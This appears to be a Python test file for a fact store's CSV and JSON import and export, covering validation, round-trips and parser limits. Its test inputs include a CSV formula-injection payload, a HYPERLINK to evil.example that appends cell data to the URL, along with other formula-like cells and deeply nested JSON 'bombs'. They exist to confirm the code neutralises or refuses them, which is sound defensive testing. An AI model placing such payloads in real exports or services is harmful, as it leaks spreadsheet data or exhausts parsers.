"""Fact files: import is all or nothing, export then import round-trips exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest

from hypothesis import given
from hypothesis import strategies as st

from facts.io import FactFileError, neutralise_cell, read_facts, unneutralise_cell, write_facts
from facts.store import FactStore


def test_json_export_then_import_round_trips_exactly(seeded_store: FactStore, fresh_db: FactStore) -> None:
    exported = write_facts(seeded_store.all(), "json")

    fresh_db.import_facts(read_facts(exported.encode(), "json"), actor="test", replace=True)

    assert exported == write_facts(fresh_db.all(), "json")


def test_csv_export_then_import_round_trips_exactly(seeded_store: FactStore, fresh_db: FactStore) -> None:
    exported = write_facts(seeded_store.all(), "csv")

    fresh_db.import_facts(read_facts(exported.encode(), "csv"), actor="test", replace=True)

    assert exported == write_facts(fresh_db.all(), "csv")
    assert seeded_store.all() == fresh_db.all()


def test_reimporting_an_export_changes_nothing(seeded_store: FactStore) -> None:
    facts = seeded_store.all()

    report = seeded_store.import_facts(read_facts(write_facts(facts, "json").encode(), "json"), actor="t")

    assert (0, 0, len(facts), 0) == (report.added, report.updated, report.unchanged, report.removed)


def test_a_bad_row_rejects_the_whole_file_naming_the_row() -> None:
    rows = [
        {"question": "q1", "answer": "a", "source_url": "https://example.org/", "source_title": "t", "lang": "en"},
        {"question": "q2", "answer": "a", "source_url": "ftp://example.org/", "source_title": "t", "lang": "en"},
        {"question": "q3", "answer": "a", "source_url": "https://example.org/", "source_title": "t", "lang": "xx"},
    ]

    with pytest.raises(FactFileError) as caught:
        read_facts(json.dumps(rows).encode(), "json")

    problems = caught.value.problems
    assert 2 == len(problems)
    assert problems[0].startswith("row 2: source_url: must be an http")
    assert problems[1].startswith("row 3: lang:")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"{not json", "not valid JSON"),
        (b'{"question": "x"}', "JSON must be a list of facts"),
        (b"[]", "the file has no facts in it"),
        (b"\xff\xfe\x00garbage", "the file is not UTF-8 text"),
    ],
)
def test_broken_json_files_are_explained(content: bytes, problem: str) -> None:
    with pytest.raises(FactFileError) as caught:
        read_facts(content, "json")

    assert caught.value.problems[0].startswith(problem)


def test_csv_with_unknown_column_is_rejected() -> None:
    content = "question,answer,colour\nq,a,red\n".encode()

    with pytest.raises(FactFileError) as caught:
        read_facts(content, "csv")

    assert caught.value.problems[0].startswith("unknown column(s): colour")


def test_csv_lists_use_pipes() -> None:
    content = (
        "question,aliases,answer,source_url,source_title,lang,tags\n"
        'How many?,troops | soldiers,About 11k,https://example.org/,Ex,en,troops | casualties\n'
    ).encode()

    [fact] = read_facts(content, "csv")

    assert (["troops", "soldiers"], ["troops", "casualties"]) == (fact.aliases, fact.tags)


HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+81 3 1234", "-5%", "@SUM(A1:A9)",
                 "\tindented", "\rcarriage", "'quoted", "''twice", "'=already neutralised"]


def test_csv_export_neutralises_formulas_and_import_gives_them_back(fresh_db: FactStore) -> None:
    for number, text in enumerate(HOSTILE_CELLS):
        fresh_db.import_facts(read_facts(json.dumps([{
            "question": f"question {number}", "answer": text, "figure": text, "source_url": "https://example.org/",
            "source_title": text, "lang": "en", "aliases": [text], "tags": ["t"],
        }]).encode(), "json"), actor="test")
    facts = fresh_db.all()

    exported = write_facts(facts, "csv")

    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "no cell starts like a formula"
    assert "'=1+2" in cells and "'@SUM(A1:A9)" in cells and "''quoted" in cells
    reread = read_facts(exported.encode(), "csv")
    assert [fact.model_dump() for fact in facts] == [fact.model_dump() for fact in reread]


def test_a_hand_written_leading_quote_is_kept_on_import() -> None:
    content = "question,answer,source_url,source_title,lang\n'90s hits?,'90s,https://example.org/,t,en\n"

    [fact] = read_facts(content.encode(), "csv")

    assert ("'90s hits?", "'90s") == (fact.question, fact.answer)


@given(st.text())
def test_every_cell_survives_neutralising(text: str) -> None:
    assert text == unneutralise_cell(neutralise_cell(text))
    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "bomb",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"facts": ' * 50_000 + b"[]" + b"}" * 50_000,
        b"[" * 100_000,
        b'[{"question": "q", "aliases": ' + b"[" * 25 + b"]" * 25 + b"}]",  # parses, but deeper than any fact file
    ],
)
def test_a_json_nesting_bomb_is_refused_with_a_reason(bomb: bytes) -> None:
    with pytest.raises(FactFileError) as refused:
        read_facts(bomb, "json")

    assert ["JSON nested too deeply (more than 20 levels)"] == refused.value.problems


def test_nesting_is_refused_only_beyond_twenty_levels() -> None:
    """A file exactly 20 levels deep gets past the depth check (and is refused for its rows, not its depth)."""
    at_limit = b'[{"question": "q", "aliases": ' + b"[" * 18 + b"]" * 18 + b"}]"  # list, object, 18 lists: 20
    with pytest.raises(FactFileError) as refused:
        read_facts(at_limit, "json")
    assert "JSON nested too deeply (more than 20 levels)" not in refused.value.problems

    one_deeper = b'[{"question": "q", "aliases": ' + b"[" * 19 + b"]" * 19 + b"}]"
    with pytest.raises(FactFileError) as refused:
        read_facts(one_deeper, "json")
    assert ["JSON nested too deeply (more than 20 levels)"] == refused.value.problems


def test_brackets_inside_strings_do_not_count_as_nesting() -> None:
    row = {"question": "[[[[[[[[[[[[[[[[[[[[[[[[[[ \"{{{{{{{{{{{{{{{{{{{{{{{{{", "answer": "]]]]",
           "source_url": "https://example.org/", "source_title": "t"}

    [fact] = read_facts(json.dumps([row]).encode(), "json")

    assert row["question"] == fact.question


@pytest.mark.parametrize("delimiter, name", [(";", "semicolons"), ("\t", "tabs")])
def test_a_csv_with_another_separator_says_to_use_commas(delimiter: str, name: str) -> None:
    header = delimiter.join(["question", "answer", "source_url", "source_title"])
    row = delimiter.join(["Q?", "A.", "https://example.org/", "T"])

    with pytest.raises(FactFileError) as refused:
        read_facts(f"{header}\n{row}\n".encode(), "csv")

    assert [f"columns must be separated by commas; this file uses {name}"] == refused.value.problems


@pytest.mark.parametrize(
    "content, problem",
    [(b"question,answer\n\"never closed,a\n", "not valid CSV (unexpected end of data)"),
     (b"question,answer\nq\x00,a\n", "row 1: source_url: required"),
     (b"question,answer\n" + b"x" * 200_000 + b",a\n", "not valid CSV (field larger than field limit")],
    ids=["unclosed quote", "NUL byte", "field over the csv module's limit"],
)
def test_broken_csv_is_refused_with_a_reason(content: bytes, problem: str) -> None:
    with pytest.raises(FactFileError) as refused:
        read_facts(content, "csv")

    assert refused.value.problems[0].startswith(problem)
